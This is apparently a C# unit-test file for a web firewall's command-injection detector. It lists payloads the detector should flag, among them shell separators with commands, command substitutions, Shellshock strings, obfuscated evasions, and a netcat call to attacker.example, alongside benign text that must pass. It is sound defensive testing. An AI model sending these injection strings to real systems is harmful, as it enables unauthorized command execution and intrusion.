using Slipway.Proxy.Edge.Waf.Detection;

namespace Slipway.Proxy.Tests.Edge.Waf.Detection;

public sealed class CommandInjectionDetectorTests
{
    [Theory]
    [InlineData("; ls -la")]
    [InlineData("127.0.0.1;id")]
    [InlineData("| whoami")]
    [InlineData("|| ping -c 5 127.0.0.1")]
    [InlineData("&& uname -a")]
    [InlineData("x & net user")]
    [InlineData("8.8.8.8\nid")]
    [InlineData("; /bin/cat /tmp/x")]
    [InlineData("a;c'a't /tmp/x")]
    [InlineData(";w\"h\"o\"am\"i")]
    [InlineData(";c\\at /tmp/x")]
    [InlineData(";{cat,/tmp/x}")]
    [InlineData("& dir c:\\")]
    [InlineData("| powershell -enc SQBFAFgA")]
    [InlineData("; cat notes.txt")]
    [InlineData("; sleep 10")]
    [InlineData("| nc attacker.example 4444")]
    public void Detect_SeparatorThenCommand_IsCmdiSeparator(string value) =>
        Assert.Equal("cmdi-separator", WafProbe.Rule(value));

    [Theory]
    [InlineData("$(whoami)")]
    [InlineData("$(id)")]
    [InlineData("`id`")]
    [InlineData("a`whoami`b")]
    [InlineData("x$(sleep 5)")]
    public void Detect_Substitution_IsCmdiSubstitution(string value) =>
        Assert.Equal("cmdi-substitution", WafProbe.Rule(value));

    [Theory]
    [InlineData("() { :; }; /bin/true")]
    [InlineData("(){ _; } >_[$($())] { echo hi; }")]
    public void Detect_FunctionDefinition_IsCmdiShellshock(string value) =>
        Assert.Equal("cmdi-shellshock", WafProbe.Rule(value));

    [Theory]
    [InlineData(";cat${IFS}x")]
    [InlineData(";cat$IFS$9x")]
    [InlineData(";/???/c?t x")]
    public void Detect_Obfuscation_IsCmdiEvasion(string value) =>
        Assert.Equal("cmdi-evasion", WafProbe.Rule(value));

    [Fact]
    public void Detect_AfterDroppedQuotes_ReportsThePositionInTheValue()
    {
        const string text = "'a' \"b\" \\c; cat /tmp/x";
        var scratch = new char[text.Length];

        Assert.True(CommandInjectionDetector.Detect(text, ulong.MaxValue, scratch, out _, out var at));
        Assert.Equal(text.IndexOf(';', StringComparison.Ordinal), at);
    }

    [Theory]
    [InlineData("Tom & Jerry; cat lovers welcome")]
    [InlineData("salt & pepper; sleep well")]
    [InlineData("A&W root beer")]
    [InlineData("M&M's")]
    [InlineData("Touch screen is responsive; sleep mode saves battery.")]
    [InlineData("ps aux | grep node")]
    [InlineData("cd src && make")]
    [InlineData("Use `npm run build` then `npm start`.")]
    [InlineData("In Python, `sleep(1)` pauses")]
    [InlineData("```python\nimport json\nprint(json.dumps({'a': 1}))\n```")]
    [InlineData("| Animal | Sound |\n| --- | --- |\n| cat | meow |")]
    [InlineData("$(document).ready(init)")]
    [InlineData("p4$$w0rd;")]
    [InlineData("https://example.com/path?x=1&id=2")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64)")]
    public void Detect_ProseCodeAndMarkdown_PassCommandRules(string value) =>
        Assert.Null(WafProbe.Rule(value));
}
